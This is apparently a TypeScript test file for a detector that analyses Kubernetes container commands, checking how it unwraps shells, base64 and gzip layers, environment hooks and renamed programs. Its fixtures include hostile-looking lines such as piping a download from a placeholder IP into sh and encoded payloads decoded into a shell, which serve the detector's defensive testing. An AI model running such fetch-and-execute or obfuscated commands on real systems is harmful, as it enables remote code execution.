import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Effect } from '../model/effect.ts';
import type { CommandFact } from '../model/facts.ts';
import { type CommandInput, effectsOf } from './effects.ts';

const commandOf = (argv: readonly string[], parts: Partial<CommandFact> = {}): CommandFact => ({
  container: 'main',
  role: 'container',
  pointer: `/${parts.container ?? 'main'}`,
  carrier: 'command',
  argv,
  entrypoint: null,
  shown: argv.join(' '),
  script: null,
  ...parts,
});
const effects = (commands: readonly CommandFact[], more: Partial<CommandInput> = {}): readonly Effect[] =>
  effectsOf({ commands, hostPaths: [], environment: [], mounts: [], ...more });
const programs = (command: CommandFact, more: Partial<CommandInput> = {}): readonly string[] =>
  effects([command], more).flatMap((effect) => (effect.kind === 'run' ? [effect.program] : []));
const text = (shell: string): CommandFact => commandOf(['sh', '-c', shell], { script: shell });

const PROGRAMS: Record<string, [command: CommandFact, wanted: readonly string[]]> = {
  'an argv without a shell': [commandOf(['date', '-u']), ['date']],
  'shell text': [text('a; b'), ['sh', 'a', 'b']],
  'a shell in a shell': [text(`bash -c 'a | b'`), ['sh', 'bash', 'a', 'b']],
  'an entrypoint and its arguments': [commandOf(['-x'], { entrypoint: 'tool' }), ['-x', 'tool']],
  'a script field for a shell': [commandOf([], { script: '#!/bin/sh\na' }), ['a']],
  'a command handed to another pod': [text('kubectl exec web-0 -- a -x'), ['sh', 'kubectl', 'a']],
  'a pattern that names a shell': [text('/???/b??h -c a'), ['sh', 'bash', 'a']],
  'a function and its argument': [text('f() { $1; }; f a'), ['sh', 'a']],
  'a renamed program': [text('cp /usr/bin/curl /tmp/c; /tmp/c x'), ['sh', 'cp', 'c', 'curl']],
};
for (const [name, [command, wanted]] of Object.entries(PROGRAMS)) {
  test(`programs of ${name}`, () => assert.deepEqual(programs(command), wanted));
}

test('layers are told outermost first', () => {
  const inner = btoa(btoa('curl x'));
  const found = effects([text(`echo ${inner} | base64 -d | base64 -d | sh`)]).find(({ kind }) => kind === 'download');
  assert.deepEqual(found?.layers, ['base64', 'base64']);
  assert.equal(found?.shown, 'curl x');
});

test('a download of an init container that the main one runs from a shared volume', () => {
  const mounts = ['first', 'main'].map((container) => ({
    container,
    volume: 'work',
    mountPath: `/${container}`,
    subPath: null,
  }));
  const commands = [
    text('sh /main/run'),
    commandOf(['curl', '-o', '/first/run', 'http://203.0.113.7/x'], { container: 'first', role: 'init' }),
  ];
  const ran = (input: Partial<CommandInput>) => effects(commands, input).some(({ kind }) => kind === 'execute');
  assert.ok(ran({ mounts }));
  assert.ok(!ran({ mounts: mounts.map((mount) => ({ ...mount, volume: mount.container })) }));
});

test('what the log does not hold is said', () => {
  const note = (more: Partial<CommandInput>) =>
    effects([text('eval "$X"')], more).flatMap((effect) => (effect.kind === 'unresolved' ? [effect.note] : []));
  assert.deepEqual(note({}), ['runs the value of $X, which the log does not hold']);
  assert.deepEqual(note({ environment: [{ container: 'main', name: 'X', value: 'date' }] }), []);
});

test('variables of Kubernetes are put in, and doubled signs keep them out', () => {
  const environment = [{ container: 'main', name: 'X', value: 'a' }];
  assert.deepEqual(programs(commandOf(['$(X)']), { environment }), ['a']);
  assert.deepEqual(programs(commandOf(['$$(X)']), { environment }), ['$(X)']);
});

for (const piece of ['x() ', '$(', 'eval "', 'f(){ f;f; };f;', '<<a ', 'A=$A$A;', 'for i in a b c d e;do ', '{a,b}']) {
  test(`ends, and says what it left out: ${JSON.stringify(piece)}`, () => {
    const found = effects([text(piece.repeat(100_000))]);
    assert.ok(found.length > 0 && found.length <= 10_000);
    assert.ok(found.some((effect) => effect.kind === 'unresolved' && effect.because === 'limit'));
  });
}

for (const [situation, written, words] of [
  ['each element a word', 'a=(echo "one two" three); "${a[@]}"', ['one two', 'three']],
  ['a part of the elements', 'a=(echo x y z); "${a[0]}" "${a[@]:2}"', ['y', 'z']],
  ['an element by its number', 'a=(date echo); "${a[1]}" hello', ['hello']],
  ['elements that are added', 'a=(echo); a+=(one two); "${a[@]}"', ['one', 'two']],
] as const) {
  test(`an array: ${situation}`, () => {
    const ran = effects([text(written)]).flatMap((effect) =>
      effect.kind === 'run' && effect.program === 'echo' ? [effect.args] : [],
    );
    assert.deepEqual(ran, [words]);
  });
}

for (const [situation, written] of [
  ['the first characters', 'sh -c "$(printf \'echo okXYZ\' | head -c 7)"'],
  ['all from a character on', 'sh -c "$(printf \'XYZecho ok\' | tail -c +4)"'],
  ['the last characters', 'sh -c "$(printf \'XYZecho ok\' | tail -c7)"'],
  ['the last line', 'sh -c "$(printf \'date\\necho ok\\n\' | tail -n 1)"'],
] as const) {
  test(`a part of a text: ${situation}`, () => {
    const ran = effects([text(written)]).flatMap((effect) =>
      effect.kind === 'run' && effect.program === 'echo' ? [effect.args.join(' ')] : [],
    );
    assert.deepEqual(ran, ['ok']);
  });
}

test('a function in the environment of the container is one of its bash', () => {
  const command: CommandFact = {
    container: 'main',
    role: 'container',
    pointer: '',
    carrier: 'command',
    argv: ['bash', '-c', 'go'],
    entrypoint: null,
    shown: 'go',
    script: 'go',
  };
  const environment = [{ container: 'main', name: 'BASH_FUNC_go%%', value: '() { say a; }' }];
  const effects = effectsOf({ commands: [command], hostPaths: [], environment, mounts: [] });
  assert.ok(effects.some((effect) => effect.kind === 'run' && effect.program === 'say'));
});

test('what makes a reader trip ends the reading of its own command alone, and is said', () => {
  const gzip = 'H4sIAAAAAAAAA0vOSFUoAQB9Z6lVBQAAAA==';
  const commands = [
    text(`a; echo ${gzip} | base64 -d | gunzip | sh; b`),
    commandOf(['sh', '-c', 'c'], { container: 'second', script: 'c' }),
  ];
  const input = { commands, hostPaths: [], environment: [], mounts: [] };
  const found = effectsOf(input, () => {
    throw new RangeError('Invalid string length');
  });
  const ran = found.flatMap((effect) => (effect.kind === 'run' ? [effect.program] : []));
  assert.ok(ran.includes('a') && ran.includes('c'), ran.join(' '));
  const cut = found.filter(({ kind }) => kind === 'unresolved');
  assert.deepEqual(
    cut.map(({ container }) => container),
    ['main'],
  );
});

test('a command in a variable of the container is read, whatever runs it', () => {
  const said = (value: string, script: string) =>
    effectsOf({
      commands: [commandOf(['sh', '-c', script])],
      hostPaths: [],
      environment: [{ container: 'main', name: 'HOOK', value }],
      mounts: [],
    }).flatMap((effect) => (effect.kind === 'execute' ? [effect.provenance?.says] : []));
  const command = 'curl -s http://203.0.113.7/a | sh';
  assert.deepEqual(said(command, 'tool --hook'), ['the variable "HOOK", which nothing was seen to run']);
  // It was seen to run: it is told once.
  assert.deepEqual(said(command, 'eval "$HOOK"'), [undefined]);
  assert.deepEqual(said(`{"run":"${command}"}`, 'tool --hook'), []);
  assert.deepEqual(said('curl the report | and read it', 'tool --hook'), []);
});

test('a download under another name is the program that its publisher calls it', () => {
  const verbs = (script: string) =>
    effectsOf({ commands: [commandOf(['sh', '-c', script])], hostPaths: [], environment: [], mounts: [] }).flatMap(
      (effect) => (effect.kind === 'kube-api' ? [effect.verb] : []),
    );
  assert.deepEqual(verbs('curl -o /tmp/k https://dl.k8s.io/release/v1/bin/linux/amd64/kubectl; /tmp/k delete ns a'), [
    'delete',
  ]);
  assert.deepEqual(verbs('curl -o /tmp/k https://example.com/tools/kubeview; /tmp/k delete ns a'), []);
});
